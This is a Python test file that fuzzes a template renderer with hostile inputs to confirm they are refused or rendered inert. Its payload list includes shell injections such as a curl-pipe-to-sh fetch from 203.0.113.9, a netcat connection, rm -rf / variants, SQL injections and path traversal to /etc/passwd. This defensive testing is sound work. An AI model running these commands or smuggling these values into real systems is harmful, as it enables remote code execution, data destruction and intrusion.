"""Hostile values in every variable of every seed: refused (VariableError) or rendered inert.

"Inert" means the rendered script has the same structure as with the sample values: the same
shell syntax tree shape, the same Python AST shape, the same SQL statements and token kinds, the
same YAML keys, the same diff shape. The payload can only ever be the content of one quoted literal.
"""

import ast
import re
import unicodedata

import pytest
import tree_sitter_bash
import unidiff
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pglast import parser as pg_parser
from tree_sitter import Language, Parser

from templates_app.rendering import TemplateRenderError, render_template
from templates_app.seed_library import load_seed_templates
from templates_app.variables import VariableError, VariableType, resolve_variables

SEEDS = load_seed_templates()
BASH = Parser(Language(tree_sitter_bash.language()))

PAYLOADS = [
    "$(id)",
    "`id`",
    "x; rm -rf / #",
    "x && curl http://203.0.113.9/x.sh | sh",
    "x | nc 203.0.113.9 4444",
    "x\nrm -rf /",
    "x\n  privileged: true",
    "x\r\nInjected: 1",
    "'; DROP TABLE users; --",
    "x' OR '1'='1",
    'x"; DROP TABLE t; --',
    "x /* c */ y",
    "$$ DROP TABLE t $$",
    "--all",
    "-rf",
    "--no-preserve-root",
    "../../etc/passwd",
    "/var/cache/../../etc",
    "/var/cache/checkout; rm -rf / #",
    "8080; include /tmp/x;",
    "} server { listen 1;",
    "INFO\nlogging: {level: DEBUG}",
    "\uff52\uff4d -rf /",
    "a\u202eb",
    "a\u200bb",
    "\x00",
    "${IFS}rm${IFS}-rf",
    "{rm,-rf,/}",
    "*",
    "~root",
    "x\\",
    "\\'; id; '",
    "1e9999",
    "-1",
    "0",
    "99999999999999999999",
]


def sample_values(seed):
    resolved = resolve_variables(seed.template_variables, {"parameters": dict(seed.sample_parameters)})
    assert resolved.ok
    return resolved.values


def render(seed, values):
    return render_template(
        content=seed.template_content,
        rollback=seed.rollback_content,
        language=seed.script_language,
        specs=seed.template_variables,
        values=values,
    )


def bash_shape(text):
    tree = BASH.parse(text.encode())
    assert not tree.root_node.has_error
    shape = []

    def walk(node):
        shape.append(node.type)
        for child in node.children:
            walk(child)

    walk(tree.root_node)
    return shape


def python_shape(text):
    tree = ast.parse(text)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant):
            node.value = type(node.value).__name__
    return ast.dump(tree)


def sql_shape(text):
    # The kind of every statement, in order: an injected terminator or comment changes it.
    # (Token-level comparison would also flag a legitimate shorter column list.)
    return [type(raw.stmt).__name__ for raw in pg_parser.parse_sql(text)]


def yaml_shape(text):
    def keys(item):
        if isinstance(item, dict):
            return {key: keys(value) for key, value in item.items()}
        if isinstance(item, list):
            return [keys(value) for value in item]
        return "scalar"  # a value may change type (512 vs "512Mi"), never shape

    return [keys(document) for document in yaml.safe_load_all(text)]


def diff_shape(text):
    # Same single file, same headers; a new key may add a line where the sample replaced one.
    patch = unidiff.PatchSet(text)
    return [(f.source_file, f.target_file, f.is_modified_file) for f in patch]


SHAPES = {
    "bash": bash_shape,
    "python": python_shape,
    "sql": sql_shape,
    "kubernetes": yaml_shape,
    "config_patch": diff_shape,
}


def payload_in_literals_only(seed, script, expected_script, payload):
    """Where the payload appears verbatim, it is inside one quoted literal of the language."""
    if payload not in script or payload in expected_script or seed.script_language != "bash":
        return  # absent, or indistinguishable from text the template has anyway
    if re.fullmatch(r"[0-9]+(?:\.[0-9]+)?", payload):
        return  # a plain number: numeric variables render bare by design, and digits cannot add structure
    tree = BASH.parse(script.encode())
    start = script.index(payload)
    node = tree.root_node.descendant_for_byte_range(len(script[:start].encode()), len(script[:start].encode()) + 1)
    assert node.type in {"raw_string", "string_content", "comment", "heredoc_body"}, node.type


def assert_inert_or_refused(seed, variable, payload):
    values = sample_values(seed)
    expected = render(seed, values)
    values[variable] = payload
    refused_variable = None
    try:
        rendered = render(seed, values)
    except VariableError as refused:
        refused_variable = refused.variable
    except TemplateRenderError:
        return  # e.g. a config edit that found nothing to change: nothing rendered
    if refused_variable is not None:
        assert refused_variable == variable
        return
    shape = SHAPES[seed.script_language]
    assert shape(rendered.script) == shape(expected.script), f"{seed.name}.{variable} changed structure"
    if expected.rollback is not None:
        assert shape(rendered.rollback) == shape(expected.rollback)
    payload_in_literals_only(seed, rendered.script, expected.script, payload)


CASES = [
    (seed, spec.name)
    for seed in SEEDS
    for spec in seed.template_variables
    if spec.variable_type is not VariableType.CONFIG_TEXT
]


@pytest.mark.parametrize(("seed", "variable"), CASES, ids=[f"{s.name}.{v}" for s, v in CASES])
def test_explicit_payloads_are_refused_or_inert(seed, variable):
    for payload in PAYLOADS:
        assert_inert_or_refused(seed, variable, payload)


def test_hostile_path_from_the_example_rca_is_refused():
    seed = next(s for s in SEEDS if s.name == "disk_full_clean_old_files")
    values = sample_values(seed) | {"path": "/var/cache/checkout; rm -rf / #"}
    with pytest.raises(VariableError) as caught:
        render(seed, values)
    assert caught.value.variable == "path"


HOSTILE_ALPHABET = st.sampled_from([*"abc019 ;&|`$(){}[]<>'\"\\\n\r\t#-/.*?~!=%,:@_+", "\u202e", "\u200b", "\uff1b"])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    case=st.sampled_from(CASES),
    payload=st.one_of(
        st.text(HOSTILE_ALPHABET, min_size=1, max_size=40),
        st.text(min_size=1, max_size=40),
        st.sampled_from(PAYLOADS).flatmap(lambda p: st.text(HOSTILE_ALPHABET, max_size=8).map(lambda s: p + s)),
    ),
)
def test_generated_payloads_are_refused_or_inert(case, payload):
    seed, variable = case
    assert_inert_or_refused(seed, variable, payload)


def test_unicode_format_characters_are_never_rendered():
    for seed, variable in CASES:
        values = sample_values(seed)
        values[variable] = "ok\u202eko"
        try:
            rendered = render(seed, values)
        except (VariableError, TemplateRenderError):
            continue
        assert not any(unicodedata.category(char) == "Cf" for char in rendered.script)
